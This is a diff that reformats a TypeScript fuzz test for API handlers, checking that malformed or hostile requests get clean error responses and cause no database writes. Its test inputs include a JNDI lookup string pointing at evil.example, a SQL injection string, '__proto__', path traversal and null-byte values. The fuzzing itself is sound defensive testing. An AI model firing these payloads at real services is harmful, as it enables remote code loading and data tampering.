@@ -86,9 +86,7 @@ const nastyString = fc.oneof(
   fc.constant("${jndi:ldap://evil.example/a}"),
   fc.constant("__proto__"),
 );
-const deepNesting = fc.integer({ min: 100, max: 3000 }).chain((depth) =>
-  fc.constantFrom(JSON.parse(`${"[".repeat(depth)}${"]".repeat(depth)}`) as unknown, JSON.parse(`${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`) as unknown),
-);
+const deepNesting = fc.integer({ min: 100, max: 3000 }).chain((depth) => fc.constantFrom(JSON.parse(`${"[".repeat(depth)}${"]".repeat(depth)}`) as unknown, JSON.parse(`${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`) as unknown));
 const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
   nastyString,
   fc.integer(),
@@ -127,20 +125,19 @@ type RawBody = { contentType: string | null; body: string; contentLength?: strin
 
 function formOf(value: unknown): string {
   if (typeof value !== "object" || value === null || Array.isArray(value)) return String(value);
-  return new URLSearchParams(Object.entries(value).map(([key, inner]) => [key, typeof inner === "string" ? inner : JSON.stringify(inner) ?? ""])).toString();
+  return new URLSearchParams(Object.entries(value).map(([key, inner]) => [key, typeof inner === "string" ? inner : (JSON.stringify(inner) ?? "")])).toString();
 }
 
 function bodies(op: ApiOperation): fc.Arbitrary<RawBody> {
   const type = op.requestBody?.contentType ?? "application/json";
   const encode = type.includes("json") ? (value: unknown) => JSON.stringify(value) ?? "null" : formOf;
-  const wellTyped = fc.oneof(
-    { weight: 3, arbitrary: mutated(op).map((value) => ({ contentType: type, body: encode(value) })) },
-    { weight: 2, arbitrary: nastyValue.map((value) => ({ contentType: type, body: encode(value) })) },
-  );
+  const wellTyped = fc.oneof({ weight: 3, arbitrary: mutated(op).map((value) => ({ contentType: type, body: encode(value) })) }, { weight: 2, arbitrary: nastyValue.map((value) => ({ contentType: type, body: encode(value) })) });
   const malformed = fc.oneof(
     fc.constantFrom("{", "[1,", "nul", '{"a":}', "\u0000", "", '{"a":"\\u0000"}', "\ufeff{}", "a=1&a=2", "%zz=%", "=&=&").map((body) => ({ contentType: type, body })),
     fc.string({ unit: "binary", maxLength: 200 }).map((body) => ({ contentType: type, body })),
-    fc.constantFrom("text/plain", "application/xml", "multipart/form-data; boundary=x", "application/json; charset=utf-16", "application/x-www-form-urlencoded", "application/json").map((contentType) => ({ contentType, body: encode(examplesOf(op)[0] ?? {}) })),
+    fc
+      .constantFrom("text/plain", "application/xml", "multipart/form-data; boundary=x", "application/json; charset=utf-16", "application/x-www-form-urlencoded", "application/json")
+      .map((contentType) => ({ contentType, body: encode(examplesOf(op)[0] ?? {}) })),
     fc.constant({ contentType: null, body: "{}" }),
     fc.constant({ contentType: type, body: type.includes("json") ? JSON.stringify({ a: "x".repeat(MAX_JSON_BODY_BYTES) }) : `a=${"x".repeat(MAX_JSON_BODY_BYTES)}` }),
     fc.constant({ contentType: type, body: "{}", contentLength: String(MAX_JSON_BODY_BYTES * 100) }),
@@ -151,11 +148,20 @@ function bodies(op: ApiOperation): fc.Arbitrary<RawBody> {
 function queries(op: ApiOperation): fc.Arbitrary<string> {
   const keys = Object.keys(op.params?.query?.shape ?? {});
   const key = keys.length ? fc.oneof(fc.constantFrom(...keys), fc.string({ maxLength: 8 })) : fc.string({ maxLength: 8 });
-  return fc.dictionary(key, fc.oneof(nastyString, nastyValue.map((value) => JSON.stringify(value) ?? "")), { maxKeys: 6 }).map((params) => {
-    const search = new URLSearchParams();
-    for (const [name, value] of Object.entries(params)) search.append(name, value.slice(0, 5000));
-    return search.toString();
-  });
+  return fc
+    .dictionary(
+      key,
+      fc.oneof(
+        nastyString,
+        nastyValue.map((value) => JSON.stringify(value) ?? ""),
+      ),
+      { maxKeys: 6 },
+    )
+    .map((params) => {
+      const search = new URLSearchParams();
+      for (const [name, value] of Object.entries(params)) search.append(name, value.slice(0, 5000));
+      return search.toString();
+    });
 }
 
 const pathParam = fc.oneof(fc.uuid(), fc.string({ maxLength: 20 }), fc.constantFrom("..", "%00", "a".repeat(5000), "00000000-0000-0000-0000-000000000000", "' OR 1=1 --"));
@@ -189,7 +195,10 @@ async function expectSafe(op: ApiOperation, handler: Handler, attempt: Attempt):
     const body = (await response.json()) as Record<string, unknown>;
     expect(typeof body.error, label).toBe("string");
     expect(typeof body.error_description, label).toBe("string");
-    expect(Object.keys(body).every((key) => ["error", "error_description", "details"].includes(key)), label).toBe(true);
+    expect(
+      Object.keys(body).every((key) => ["error", "error_description", "details"].includes(key)),
+      label,
+    ).toBe(true);
   }
   expect(await rowCounts(), `${label}: a failed request wrote rows`).toEqual(before);
 }
